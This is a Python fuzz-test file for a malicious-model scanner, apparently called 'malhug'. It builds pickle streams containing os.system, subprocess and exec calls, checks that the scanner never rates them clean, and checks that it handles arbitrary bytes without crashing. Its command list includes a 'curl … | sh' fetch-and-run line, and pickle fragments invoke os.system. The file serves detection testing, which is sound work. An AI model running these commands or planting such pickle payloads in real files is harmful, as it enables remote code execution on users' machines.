"""Fuzz target: format detection fails closed (hypothesis; profiles in tests/fuzz/conftest.py).

1. A valid payload pickle (written opcode by opcode by ``tests/builders``, never unpickled) behind a
   random prefix the C unpickler runs through (no-ops, PROTO anywhere, long strings, items left on
   the stack, an unclosed MARK), with random padding and a random suffix (garbage, text, a cut):
   whenever ``pickletools.genops`` can still walk it to a call, the verdict is never ``clean``,
   whatever the file is called.
2. A Python module with long leading strings, coding cookies and odd bytes, saved as ``.py``, with
   a defanged payload at module level: the taint analysis runs and finds it.
3. Any bytes: detection and the scan never raise, and the walk's work is bounded.

``deadline=None``: the first Python example imports libcst; time is bounded by ``ctx.limits``.
"""

from __future__ import annotations

import pickletools
import struct

from hypothesis import assume, given
from hypothesis import strategies as st

from malhug.analyzers import formats
from malhug.analyzers.api import scan_bytes
from malhug.analyzers.detect import detect_analyses
from malhug.analyzers.limits import DEFAULT_LIMITS, Limits
from malhug.analyzers.pickle.reach import walk
from malhug.analyzers.shared.slices import HeadSource
from malhug.analyzers.shared.source import BytesSource
from malhug.core.model import Verdict
from tests.builders.pickles import call, payload_ops
from tests.fuzz.harness import bounded

CALLABLES = ["os.system", "posix.system", "subprocess.call", "subprocess.Popen", "builtins.exec", "builtins.eval"]
COMMANDS = ["echo malhug", "curl http://127.0.0.1:8000/x | sh", "id"]
CALL_OPS = {"REDUCE", "GLOBAL", "STACK_GLOBAL", "INST", "OBJ", "NEWOBJ", "NEWOBJ_EX", "BUILD", "BINPERSID", "EXT1"}


def _text_string(data: bytes) -> bytes:
    return b"S'" + data.replace(b"\\", b"").replace(b"'", b"").replace(b"\n", b"") + b"'\n"


@st.composite
def _noop(draw: st.DrawFn) -> bytes:
    """A piece the unpickler runs through, leaving the stack as it was (or one item more)."""
    kind = draw(st.sampled_from(["N0", "(1", "(0", "proto", "binunicode", "binbytes8", "string", "int", "extra"]))
    if kind == "proto":
        return b"\x80" + bytes([draw(st.integers(0, 5))])
    if kind == "binunicode":
        text = draw(st.text(max_size=64)).encode("utf-8", "surrogatepass") * draw(st.integers(1, 600))
        return b"X" + struct.pack("<I", len(text)) + text + b"0"
    if kind == "binbytes8":
        size = draw(st.integers(0, 40_000))
        return b"\x8e" + struct.pack("<Q", size) + bytes([draw(st.integers(0, 255))]) * size + b"0"
    if kind == "string":
        return _text_string(draw(st.binary(max_size=64)) * draw(st.integers(1, 400))) + b"0"
    if kind == "int":
        return b"I" + str(draw(st.integers(-(10**30), 10**30))).encode() + b"\n0"
    if kind == "extra":
        return draw(st.sampled_from([b"N", b"K\x07", b"}", b"]", b")", b"("]))  # left below the payload
    return kind.encode()


@st.composite
def _payload_stream(draw: st.DrawFn) -> bytes:
    calls = [call(draw(st.sampled_from(CALLABLES)), draw(st.sampled_from(COMMANDS)))]
    protocol = draw(st.integers(0, 5))
    prefix = b"".join(draw(st.lists(_noop(), max_size=6)))
    body = payload_ops(calls, protocol)
    padding = b"".join(draw(st.lists(st.sampled_from([b"N0", b"(1"]), max_size=3)))
    end = draw(st.sampled_from([b"N.", b"N", b"", b".", b"(I1"]))
    suffix = draw(
        st.one_of(
            st.just(b""),
            st.binary(max_size=256),
            st.text(max_size=256).map(lambda t: t.encode("utf-8", "surrogatepass")),
        )
    )
    return prefix + body + padding + end + suffix


def _genops_reaches_a_call(data: bytes) -> bool:
    try:
        for opcode, _arg, _pos in pickletools.genops(data):
            if opcode.name in CALL_OPS:
                return True
    except (ValueError, UnicodeDecodeError, struct.error, IndexError):
        return False
    return False


@given(stream=_payload_stream(), name=st.sampled_from(["x.bin", "vocab.txt", "README.md", "", "pytorch_model.bin"]))
def test_reachable_payload_is_never_clean(stream: bytes, name: str) -> None:
    assume(_genops_reaches_a_call(stream))
    with bounded("detection", stream, name=name, must_flag="True"):
        reach = walk(BytesSource(stream), DEFAULT_LIMITS)
        assert reach.reached is not None
        analyses = detect_analyses(BytesSource(stream), name)
        assert formats.PICKLE in analyses or formats.JOBLIB in analyses, analyses
        report = scan_bytes(stream, name=name)
        assert report.verdict is not Verdict.CLEAN, report.findings


PAYLOAD = 'import os\nos.system("echo malhug")\n'


@st.composite
def _module(draw: st.DrawFn) -> bytes:
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "cp1252"]))
    lines: list[str] = []
    if encoding in ("latin-1", "cp1252") or draw(st.booleans()):
        lines.append(f"# -*- coding: {encoding.replace('-sig', '')} -*-")
    elif draw(st.booleans()):  # a cookie Python would refuse or that names no codec
        lines.append(f"# coding: {draw(st.sampled_from(['rot13', 'utf-16', 'zlib_codec', 'bogus', 'ascii']))}")
    filler = st.sampled_from(
        [
            "words ",
            "```python\nx = 1\n```\n",
            "{% for message in messages %}{{ message }}{% endfor %} ",
            "caf\xe9 ",
            "\n",
        ]
    )
    docstring = "".join(draw(st.lists(filler, max_size=40))) * draw(st.integers(1, 400))
    lines.append('"""' + docstring.replace('"""', "") + '"""')
    if draw(st.booleans()):
        lines.append('_CITATION = """\\\n' + "@article{x, title={T}}\n" * draw(st.integers(1, 800)) + '"""')
    if draw(st.booleans()):
        lines.append('TEMPLATE = "{% for message in messages %}{{ bos_token }}{% endfor %}"')
    lines.append(PAYLOAD)
    data = "\n".join(lines).encode(encoding, errors="replace")
    odd = draw(st.sampled_from([b"", b"\xff", b"\xe9", b"\x80\x80"]))
    if odd:
        # In a comment before the payload (Python imports it), or anywhere the first line ends.
        where = draw(st.sampled_from([b"import os", b"\n"]))
        data = data.replace(where, b"# odd byte " + odd + b"\n" + where, 1)
    return data


@given(source=_module())
def test_python_module_always_gets_the_taint_analysis(source: bytes) -> None:
    with bounded("detection", source, name="my_dataset.py", must_flag="True"):
        report = scan_bytes(source, name="my_dataset.py")
        assert report.format == formats.PYTHON
        hits = [f for f in report.findings if f.rule == "MH505"]
        assert hits, report.findings
        assert report.verdict is Verdict.MALICIOUS


# Opcode soup: pieces of real pickles in random order, so the walk gets past the first bytes.
_PIECES = [
    b"(", b".", b"0", b"1", b"2", b"N", b"R", b"b", b"a", b"e", b"d", b"}", b"l", b"]", b"o", b"s", b"u",
    b"t", b")", b"Q", b"P1\n", b"\x81", b"\x85", b"\x86", b"\x87", b"\x88", b"\x89", b"\x8f", b"\x90",
    b"\x91", b"\x92", b"\x93", b"\x94", b"\x97", b"\x98", b"\x80\x04", b"\x80\x09", b"K\x01", b"M\x01\x00",
    b"J\x01\x00\x00\x00", b"\x8c\x02os", b"\x8c\x06system", b"X\x02\x00\x00\x00os", b"cos\nsystem\n",
    b"cat\ndog\n", b"i__main__\nX\n", b"S'echo'\n", b"Vx\n", b"I1\n", b"g0\n", b"p0\n", b"h\x00", b"q\x00",
    b"\x82\x01", b"\x95\x10\x00\x00\x00\x00\x00\x00\x00", b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f", b"\xff",
]  # fmt: skip
_SOUP = st.lists(st.sampled_from(_PIECES), max_size=60).map(b"".join)


@given(
    data=st.one_of(st.binary(max_size=4096), _SOUP),
    name=st.sampled_from(["x.bin", "notes.txt", "m.py", "config.json", ""]),
)
def test_any_bytes_detect_and_scan_without_raising(data: bytes, name: str) -> None:
    with bounded("detection", data, name=name):
        small = Limits(max_pickle_ops=10_000, max_stream_bytes=1 << 20)
        reach = walk(BytesSource(data), small)
        assert reach.ops <= small.max_pickle_ops
        # A container member sniffed from its head: reads past it return nothing; the walk still ends.
        head_only = walk(HeadSource(data[: len(data) // 2], len(data)), small)
        assert head_only.ops <= small.max_pickle_ops
        if reach.reached is not None and (head_only.reached is None):
            assert head_only.stop < len(data) // 2 or not data
        analyses = detect_analyses(BytesSource(data), name, small)
        assert analyses and all(isinstance(a, str) for a in analyses)
        report = scan_bytes(data, name=name, limits=small)
        assert report.format == analyses[0]
        if reach.reached is not None:
            assert formats.PICKLE in analyses or formats.JOBLIB in analyses
